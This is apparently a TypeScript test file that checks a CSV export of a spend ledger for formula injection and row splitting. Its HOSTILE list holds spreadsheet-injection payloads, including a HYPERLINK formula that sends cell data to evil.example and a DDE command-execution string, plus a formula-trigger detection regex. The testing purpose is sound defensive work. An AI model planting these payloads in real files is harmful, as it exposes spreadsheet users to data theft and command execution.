import { describe, expect, it } from "vitest";
import type { LedgerRow } from "@/lib/db/schema";
import { ledgerCsv } from "./ledger-csv";

/**
 * The ledger CSV a person opens in a spreadsheet (GET /api/spend/ledger): text that is not ours
 * (model ids from the gateway's catalog, notes that quote its messages) must arrive as text, never
 * as a formula, and must not break the row apart. The route's headers (attachment, nosniff, no
 * CORS) are checked in e2e/security/spend-inputs.spec.ts.
 */
const row = (over: Partial<LedgerRow>): LedgerRow => ({
  id: 1,
  jobId: "6f9619ff-8b86-4d11-b42d-00c04fc964ff",
  model: "amazon.nova-canvas-v1:0",
  taskType: "TEXT_IMAGE",
  kind: "settle",
  amountMicros: 80_000,
  images: 1,
  note: null,
  createdAt: new Date("2026-12-06T09:00:00.000Z"),
  ...over,
});

/** RFC 4180 as a spreadsheet reads it: rows of cells, quotes undone. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      cells.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      cells.push(cell);
      rows.push(cells);
      cells = [];
      cell = "";
      i++;
    } else cell += c;
  }
  expect(quoted, "no quote left open").toBe(false);
  expect(cell + cells.join(""), "the text ends with CRLF").toBe("");
  return rows;
}

/** Formula triggers at the start of a cell (OWASP, ASVS 1.2.10; NUL cannot be stored). */
const FORMULA_START = /^[=+\-@\t\r]/;

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "=1+1\r\n=2+2",
  'a,b,"c"',
  '"=1+1"',
  "ok\n=1+1",
];

describe("ledgerCsv", () => {
  it("writes the header and one CRLF line per entry, amounts in dollars", () => {
    const text = ledgerCsv([row({}), row({ id: 2, kind: "reserve", amountMicros: 1, images: 4 })]);
    expect(text).toBe(
      "id,time,kind,job_id,model,task_type,amount_usd,images,note\r\n" +
        "1,2026-12-06T09:00:00.000Z,settle,6f9619ff-8b86-4d11-b42d-00c04fc964ff,amazon.nova-canvas-v1:0,TEXT_IMAGE,0.08,1,\r\n" +
        "2,2026-12-06T09:00:00.000Z,reserve,6f9619ff-8b86-4d11-b42d-00c04fc964ff,amazon.nova-canvas-v1:0,TEXT_IMAGE,0.000001,4,\r\n",
    );
  });

  it.each(HOSTILE)("keeps %j a text cell of its own, whichever column it lands in", (value) => {
    const rows = parseCsv(ledgerCsv([row({ model: value, taskType: value, note: value })]));
    expect(rows).toHaveLength(2);
    const cells = rows[1];
    expect(cells, "nine cells: nothing split the row").toHaveLength(9);
    for (const index of [4, 5, 8]) {
      const cell = cells[index];
      expect(cell, `cell ${index} does not start like a formula`).not.toMatch(FORMULA_START);
      // What was stored is all there, after at most the apostrophe that makes it text.
      expect(cell === value || cell === `'${value}`, `cell ${index}: ${JSON.stringify(cell)}`).toBe(true);
    }
  });

  it("leaves ordinary text as it is", () => {
    const cells = parseCsv(ledgerCsv([row({ note: "cancelled before it was sent" })]))[1];
    expect(cells[8]).toBe("cancelled before it was sent");
    expect(cells[4]).toBe("amazon.nova-canvas-v1:0");
  });
});
